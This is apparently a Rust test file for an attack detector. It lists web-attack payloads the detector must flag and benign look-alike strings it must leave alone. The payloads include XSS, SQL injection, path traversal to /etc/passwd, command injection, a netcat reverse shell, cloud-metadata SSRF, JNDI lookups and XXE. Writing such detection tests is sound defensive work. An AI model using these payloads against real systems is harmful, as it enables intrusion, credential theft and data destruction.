use super::TABLES;
use crate::inspect::detect::probe::wrong;
use crate::inspect::detect::{FLAG_POINTS, Family};

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=confirm(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "\" onmouseover=\"alert(1)",
    "<iframe src=\"data:text/html;base64,PHNjcmlwdD4=\"></iframe>",
    "' or 1=1--",
    "admin' or '1'='1",
    "1 union select null, username, password from users--",
    "1' union all select 1,@@version,3 -- -",
    "'; drop table users; --",
    "1; waitfor delay '0:0:5'--",
    "1 and sleep(5)",
    "1' and extractvalue(1,concat(0x7e,version()))#",
    "exec master..xp_cmdshell 'dir'",
    "admin'--",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "; cat /etc/passwd",
    "127.0.0.1 && whoami",
    "| nc -e /bin/sh 10.0.0.1 99",
    "$(whoami)",
    "() { :; }; /bin/bash -c id",
    "http://169.254.169.254/latest/meta-data/iam/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
    "username[$ne]=1&password[$ne]=1",
    "*)(uid=*))(|(uid=*",
    "%0d%0aSet-Cookie: admin=1",
    "php://filter/convert.base64-encode/resource=index.php",
    "{\"__proto__\": {\"admin\": true}}",
];

const BENIGN: &[&str] = &[
    "SELECT name, total FROM orders WHERE id = 7 ORDER BY total",
    "SELECT a FROM t1 UNION ALL SELECT a FROM t2;",
    "The union of workers voted to select a new chair.",
    "Is it 1 or 2? Either one and I am happy.",
    "if x == 'a' or y == 'b': return",
    "<button onClick={() => setOpen(true)}>Open</button>",
    "<script src=\"/static/app.js\"></script>",
    "import { a } from '../../lib/a';",
    "cd ../.. && make",
    "time.sleep(5)",
    "git log | cat",
    "| id | name | which |",
    "Use `curl https://example.com` to test it; ls shows the files.",
    "Hello {{ name }}, your total is ${price}.",
    "Where is the file /etc/nginx/nginx.conf documented?",
    "O'Reilly and Sons' order -- due Monday",
    "<!DOCTYPE html><html><body>Hi</body></html>",
    "Drop the table tennis idea; update me tomorrow.",
    "The prompt` character in zsh",
    "--- a/file.rs +++ b/file.rs",
];

#[test]
fn payloads_are_flagged() {
    let missed = wrong(TABLES, Family::WebAttacks, ATTACKS, |points| {
        points >= FLAG_POINTS
    });
    assert!(missed.is_empty(), "an attack flags:{missed}");
}

#[test]
fn everyday_texts_stay_quiet() {
    let loud = wrong(TABLES, Family::WebAttacks, BENIGN, |points| {
        points < FLAG_POINTS
    });
    assert!(loud.is_empty(), "everyday text is quiet:{loud}");
}
